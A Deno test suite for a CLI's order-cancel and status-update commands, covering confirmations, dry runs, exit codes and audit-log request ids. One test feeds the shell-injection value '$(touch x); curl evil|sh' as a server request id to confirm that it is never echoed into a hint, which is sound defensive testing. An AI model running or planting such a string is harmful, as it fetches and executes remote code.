/** `orders cancel` and `orders update-status`: shown, asked for, sent once, found again in the audit log. */
import assert from "node:assert/strict";
import { autocom, execute, type World } from "../support/harness.ts";
import { systemOf } from "../support/world.ts";
import { json, order, page, scripted, withToken } from "../support/scripted.ts";

const [CONFIRMED, DELIVERED] = ["ORD-20260101-0001", "ORD-20260101-0006"];
const AT_A_TERMINAL = { terminal: { stdin: true, stderr: true } };

const mutations = (of: World) => of.sandbox.log.filter(({ body }) => body.includes("mutation"));

Deno.test("cancel shows the change, carries it out, prints the order, and names the request", async () => {
  await using w = await withToken();
  await autocom(`orders cancel ${CONFIRMED} --reason "out of stock" --yes`, {
    out: /^ORDER\tSTATUS\tTOTAL\tCURRENCY\tCREATED\tREQUEST\nORD-20260101-0001\tcancelled\t/,
    err:
      /^Order \S+ of tenant acme: confirmed → cancelled, reason: out of stock\nOrder \S+ is cancelled\. Request [\w-]+: autocom audit list --request-id [\w-]+\n$/,
  }, w);
  const [sent, ...more] = mutations(w);
  assert.equal(more.length, 0);
  assert.deepEqual(JSON.parse(sent!.body).variables.reason, "out of stock");
  assert.match(sent!.headers["idempotency-key"] ?? "", /^[0-9a-f-]{36}$/);
});

Deno.test("the request that a message names finds exactly its row in the audit log", async () => {
  await using w = await withToken();
  const { err } = await execute(`orders update-status ${CONFIRMED} shipped --yes`, w);
  const later = await execute(`orders cancel ${CONFIRMED} --yes`, w);
  assert.equal(later.code, 0, later.err);
  const id = /Request ([\w-]+):/.exec(err)![1]!;
  await autocom(`audit list --request-id ${id} -o json`, {
    out(text) {
      const rows = JSON.parse(text);
      assert.deepEqual(rows.map((row: Record<string, unknown>) => [row.operation, row.result, row.request_id]), [
        ["orders_update_status", "ok", id],
      ]);
    },
  }, w);
});

Deno.test("a refused change is exit 8 with its field errors, and finds its row, too", async () => {
  await using w = await withToken();
  const before = w.sandbox.rows("acme");
  const { code, err } = await execute(`orders cancel ${DELIVERED} --yes`, w);
  assert.equal(code, 8, err);
  assert.match(err, /cannot cancel the order: .*\(request [\w-]+\)\n {2}status: The order is delivered\.\n/);
  assert.equal(w.sandbox.rows("acme"), before);
  const id = /\(request ([\w-]+)\)/.exec(err)![1]!;
  await autocom(`audit list --request-id ${id}`, { out: /\torders_cancel\tVALIDATION\t/, err: /^Source: / }, w);
});

Deno.test("a role without the permission is exit 6, which names it, and nothing has changed", async () => {
  await using w = await withToken("viewer");
  const before = w.sandbox.rows("acme");
  await autocom(`orders cancel ${CONFIRMED} --yes`, {
    code: 6,
    err:
      /→ cancelled\nerror: cannot cancel the order: token and tenant "acme" were accepted, but the permission "orders\.cancel" is missing/,
  }, w);
  assert.equal(w.sandbox.rows("acme"), before);
});

Deno.test("where nobody can be asked, a change needs --yes, and nothing is sent without it", async () => {
  await using w = await withToken();
  await autocom(`orders cancel ${CONFIRMED}`, {
    code: 2,
    err: "error: cannot cancel the order: it must be confirmed, and this is not a terminal\n" +
      "hint: add --yes, or --dry-run to see what would change\n",
  }, w);
  assert.deepEqual(w.sandbox.log, []);
});

for (
  const [why, flag, changes] of [
    ["--no-input is given", " --no-input", AT_A_TERMINAL],
    ["AUTOCOM_NO_INPUT is set", "", { ...AT_A_TERMINAL, env: { AUTOCOM_NO_INPUT: "1" } }],
    ["stderr is not a terminal", "", { terminal: { stdin: true, stdout: true } }],
    ["this is not a terminal", "", { terminal: { stdout: true, stderr: true } }],
  ] as const
) {
  Deno.test(`FT-51: who is not asked learns why: ${why}`, async () => {
    await using w = await withToken("owner", { terminal: changes.terminal });
    Object.assign(w.env, "env" in changes && changes.env);
    await autocom(`orders cancel ${CONFIRMED} --color never${flag}`, {
      code: 2,
      err: `error: cannot cancel the order: it must be confirmed, and ${why}\n` +
        "hint: add --yes, or --dry-run to see what would change\n",
    }, w);
    assert.deepEqual(w.sandbox.log, []);
  });
}

Deno.test("on a terminal the change is asked for; no changes nothing, yes carries it out", async () => {
  await using w = await withToken("owner", { ...AT_A_TERMINAL, answers: [false, true] });
  await autocom(`orders update-status ${CONFIRMED} shipped`, {
    code: 1,
    err: /confirmed → shipped\n.*order \S+ was not changed: you said no/,
  }, w);
  assert.deepEqual(mutations(w), []);
  await autocom(`orders update-status ${CONFIRMED} shipped`, { out: /\tshipped\t/, err: /is shipped\. Request / }, w);
  assert.deepEqual(w.seen.asked, [`Change order ${CONFIRMED}?`, `Change order ${CONFIRMED}?`]);
});

Deno.test("FT-50: --dry-run looks, changes nothing, and shows what would change with its reason", async () => {
  await using w = await withToken();
  const before = w.sandbox.rows("acme");
  await autocom(`orders cancel ${CONFIRMED} --reason "out of stock" --dry-run`, {
    out: `WHAT\tCHANGE\tREASON\norder ${CONFIRMED}\tconfirmed → cancelled\tout of stock\n`,
    err: "Nothing was changed: this was a dry run.\n",
  }, w);
  const id = "9d794c60-1508-5e53-a3ef-a8198e43d9e1";
  await autocom(`orders update-status ${id} shipped --dry-run -o json`, {
    out(text) {
      const { document, ...rest } = JSON.parse(text);
      assert.match(document, /^mutation UpdateOrderStatus\(\$id: ID!, \$status: OrderStatus!\) \{/);
      assert.deepEqual(rest, {
        what: `order ${CONFIRMED}`,
        before: { status: "confirmed" },
        after: { status: "shipped" },
        reason: null,
        variables: { id, status: "shipped" },
      });
    },
  }, w);
  assert.deepEqual(mutations(w), []);
  assert.equal(w.sandbox.rows("acme"), before);
  await autocom("orders cancel ORD-1 --dry-run", { code: 7, err: /there is no order "ORD-1"/ }, w);
});

Deno.test("FT-50: --dry-run --yes sends no change, and the confirmation shows the reason", async () => {
  await using w = await withToken("owner", { ...AT_A_TERMINAL, answers: [false] });
  await autocom(`orders cancel ${CONFIRMED} --yes --dry-run -q`, { out: /confirmed → cancelled/ }, w);
  await autocom(`orders cancel ${CONFIRMED} --reason "-hidden damage"`, {
    code: 1,
    err: /^Order \S+ of tenant acme: confirmed → cancelled, reason: -hidden damage\n\S+ order \S+ was not changed/,
  }, w);
  assert.deepEqual(mutations(w), []);
});

for (const format of ["json", "jsonl", "yaml"]) {
  Deno.test(`FT-50: with -o ${format} the question itself says what is changed, and why`, async () => {
    await using w = await withToken("owner", { ...AT_A_TERMINAL, answers: [false] });
    await autocom(
      `orders cancel ${CONFIRMED} --reason "out of stock" -o ${format}`,
      { code: 1, err: /you said no/ },
      w,
    );
    const said = `Order ${CONFIRMED} of tenant acme: confirmed → cancelled, reason: out of stock`;
    assert.deepEqual(w.seen.asked, [`${said}. Change order ${CONFIRMED}?`]);
    assert.deepEqual(mutations(w), []);
  });
}

Deno.test("FT-8: an order that is in that status already is left alone: nothing is sent, exit 0", async () => {
  await using w = await withToken();
  for (
    const [line, status] of [
      [`update-status ${DELIVERED} delivered --yes`, "delivered"],
      [`update-status ${DELIVERED} delivered --dry-run`, "delivered"],
      [`update-status ${DELIVERED} Delivered`, "delivered"],
      ["cancel ORD-20260101-0009 --yes --reason twice", "cancelled"],
    ] as const
  ) {
    const needed = line.includes("--") ? line : `${line} --yes`;
    await autocom(`orders ${needed}`, {
      out: new RegExp(`^ORDER.*\nORD-\\S+\t${status}\t`),
      err: new RegExp(`^Order ORD-\\S+ is already ${status}: nothing was sent\\.\n$`),
    }, w);
    const { out, err } = await execute(`orders ${needed} -o json`, w);
    assert.deepEqual([JSON.parse(out).status, JSON.parse(out).request_id, err], [status, null, ""]);
  }
  assert.deepEqual(mutations(w), []);
});

Deno.test("FT-42: a change's object ends with the request id, in every format and with -q", async () => {
  const STATUS = ["processing", "ready_to_ship", "shipped", "confirmed", "processing"];
  await using w = await withToken();
  for (const format of ["json", "yaml", "tsv"]) {
    for (const quiet of ["", " -q"]) {
      const status = STATUS.shift() ?? "shipped";
      const { code, out, err } = await execute(
        `orders update-status ${CONFIRMED} ${status} --yes -o ${format}${quiet}`,
        w,
      );
      assert.equal(code, 0, err);
      const id = mutations(w).at(-1)!.headers["x-request-id"]!;
      const last = { json: `"request_id": "${id}"\n}\n`, yaml: `request_id: ${id}\n`, tsv: `\t${id}\n` }[format]!;
      assert.ok(out.replaceAll(`request_id: "${id}"`, `request_id: ${id}`).endsWith(last), out);
      assert.equal(err.includes(`Request ${id}`), format === "tsv" && quiet === "");
    }
  }
});

Deno.test("a mutation that meets a busy server is not sent again", async () => {
  const brief = order(1, { order_number: CONFIRMED, status: "confirmed" });
  const busy = json({ message: "Service Unavailable" }, 503);
  const fetch = scripted(json({ data: { orders: { data: [brief], meta: { total_pages: 1 } } } }), busy);
  await using w = await withToken("owner", { fetch });
  await autocom(
    `orders cancel ${CONFIRMED} --yes`,
    { code: 11, err: /cannot cancel the order: .* is not available/ },
    w,
  );
  assert.equal(fetch.asked.length, 2);
});

Deno.test("an unknown order and an unknown status are told apart", async () => {
  await using w = await withToken();
  await autocom("orders cancel ORD-1 --yes", { code: 7, err: /there is no order "ORD-1" in this tenant/ }, w);
  await autocom(`orders update-status ${CONFIRMED} lost --yes`, {
    code: 2,
    err: /<status> must be one of pending, confirmed, .*, not "lost"/,
  }, w);
  assert.deepEqual(mutations(w), []);
});

for (
  const [about, answer] of [
    ["nothing where the row should be", { data: { orders_cancel: null } }],
    ["a field of another type", { data: { orders_cancel: { ...order(), status: 5 } } }],
    ["another mutation's row", { data: { orders_refund: order() } }],
    [
      "an error below its own field",
      { data: { orders_cancel: null }, errors: [{ message: "no", path: ["orders_cancel", "total"] }] },
    ],
    [
      "a field that may not be seen",
      {
        data: { orders_cancel: { ...order(), total: null } },
        errors: [{ message: "no", path: ["orders_cancel", "total"], extensions: { code: "FORBIDDEN" } }],
      },
    ],
  ] as const
) {
  Deno.test(`FT-37: a change that is answered with ${about} may have been carried out, and says how to find out`, async () => {
    const found = json({ data: { orders: { data: [order()], meta: { total_pages: 1 } } } });
    await using w = await withToken("owner", { fetch: scripted(found, json(answer, 200, { "X-Request-Id": "r-1" })) });
    await autocom("orders cancel ORD-20260503-001 --yes -o json", {
      code: 11,
      err(text) {
        const { message, hint, request_id } = JSON.parse(text).error;
        assert.match(message, /; the change may have been carried out$/);
        assert.deepEqual(
          [hint, request_id],
          [
            "find out before you try again: look at what it changes; with admin.audit_log: autocom audit list --request-id r-1",
            "r-1",
          ],
        );
      },
    }, w);
  });
}

for (const name of ["$(touch x); curl evil|sh", "-o json", "a b", "'", "x".repeat(60_000)]) {
  Deno.test(`FT-51: a request's name from the server that is no plain word stands in no hint: ${name.slice(0, 20)}`, async () => {
    const found = json({ data: { orders: { data: [order()], meta: { total_pages: 1 } } } });
    const failed = json({ message: "x" }, 500, { "X-Request-Id": name });
    await using w = await withToken("owner", { fetch: scripted(found, failed) });
    await autocom("orders cancel ORD-20260503-001 --yes -q", {
      code: 11,
      err:
        /\(request [0-9a-f-]{36}\)\nhint: find out before you try again: look at what it changes; with admin.audit_log: autocom audit list --request-id [0-9a-f-]{36}\n$/,
    }, w);
  });
}

Deno.test("FT-6: an empty reason is refused with a hint about reasons", async () => {
  await autocom(["orders", "cancel", "ORD-1", "--reason", "", "--yes"], {
    code: 2,
    err: "error: --reason must not be empty\nhint: leave --reason out, or give it a value\n",
  });
});

Deno.test("a change that is refused itself was not carried out, whatever else is wrong with its answer", async () => {
  const found = json({ data: { orders: { data: [order()], meta: { total_pages: 1 } } } });
  const errors = [
    { message: "no", path: ["orders_cancel", "total"] },
    { message: "It is delivered.", path: ["orders_cancel"], extensions: { code: "VALIDATION" } },
  ];
  for (const said of [errors, errors.slice(1), [{ message: "no" }]]) {
    const fetch = scripted(found, json({ data: { orders_cancel: null }, errors: said }));
    await using w = await withToken("owner", { fetch });
    await autocom("orders cancel ORD-20260503-001 --yes -q", { code: 8, err: /^error: (?![^]*carried out)/ }, w);
  }
});

Deno.test("a number or a SKU that several things have changes none of them, and the hint names their ids", async () => {
  const [one, two] = [order(1, { order_number: "ORD-1" }), order(2, { order_number: "ORD-1" })];
  await using w = await withToken("owner", { fetch: scripted(page([one, two])) });
  for (const line of ["orders cancel ORD-1 --yes", "orders refund ORD-1 --yes", "orders get ORD-1"]) {
    await autocom(line, {
      code: 2,
      err: `error: there are 2 orders "ORD-1" in this tenant\nhint: name one of them by its id: ${one.id}, ${two.id}\n`,
    }, w);
  }
  const product = { id: one.id, sku: "MUG", name: "Mug", status: "active", price: "1.00", stock_quantity: 1 };
  const products = { data: [product, { ...product, id: two.id }], meta: { total_pages: 1 } };
  w.fetch = scripted(json({ data: { products } }));
  await autocom("products update MUG --price 2.00 --yes", { code: 2, err: /there are 2 products "MUG"/ }, w);
  // A row that stands on the page twice is one.
  w.fetch = scripted(page([one, one]), json({ data: { orders_cancel: { ...one, status: "cancelled" } } }));
  await autocom("orders cancel ORD-1 --yes -q", { out: /cancelled/ }, w);
});

Deno.test("a change that the server accepts and does not make is warned of, in every format", async () => {
  const found = order();
  for (const format of ["tsv", "json"]) {
    await using w = await withToken("owner", {
      fetch: scripted(json({ data: { order: found } }), json({ data: { orders_cancel: found } })),
    });
    await autocom(`orders cancel ${found.id} --yes -q -o ${format}`, {
      out: /pending/,
      err:
        `warning: the server accepted the change, and says otherwise: order ${found.order_number} is pending, not cancelled\n`,
    }, w);
  }
});

Deno.test("where nothing is left of what was paid, or nothing is paid, that is no amount to send", async () => {
  const back = "whether an amount can be refunded is the server's to say: --amount 10.50\n";
  for (
    const [amount_paid, amount_refunded, why, left] of [
      ["10.00", "15.00", "of 10.00 INR paid 15.00 are refunded already", "nothing is left of it; "],
      ["10.00", "10", "of 10.00 INR paid 10 are refunded already", "nothing is left of it; "],
      ["0.00", "0.00", "nothing is paid yet", ""],
    ]
  ) {
    const fetch = scripted(
      json({ data: { order: { ...order(), payment_status: "paid", amount_paid, amount_refunded } } }),
    );
    await using w = await withToken("owner", { fetch });
    for (const last of ["--yes", "--dry-run"]) {
      const err = `error: cannot refund the order: ${why}\nhint: ${left}${back}`;
      await autocom(`orders refund ${order().id} ${last}`, { code: 8, err }, w);
    }
    assert.equal(fetch.asked.length, 2);
  }
});

Deno.test("a change that was carried out is not called undone where printing it fails, and is not to be repeated", async () => {
  const found = order();
  const done = json({ data: { orders_cancel: { ...found, status: "cancelled" } } });
  const lines = [
    [`orders cancel ${found.id}`, scripted(json({ data: { order: found } }), done)],
    ["graphql 'mutation{orders_cancel(id:1){id}}'", scripted(done)],
    ["api DELETE /orders/1", scripted(done)],
  ] as const;
  for (const [line, fetch] of lines) {
    await using w = await withToken("owner", { fetch });
    const { io } = systemOf(w);
    const write = () => Promise.reject(new RangeError("secret-of-17-characters"));
    w.system = { io: { ...io, stdout: { ...io.stdout, write } } };
    const { code, err } = await execute(`${line.replaceAll("'", '"')} --yes -q`, w);
    assert.equal(code, 70, err);
    assert.match(
      err,
      /^error: autocom failed unexpectedly; the change was carried out \(request [-\w]{36}\)\nhint: do not repeat it/m,
    );
    assert.doesNotMatch(err, /again|secret-of/);
  }
});
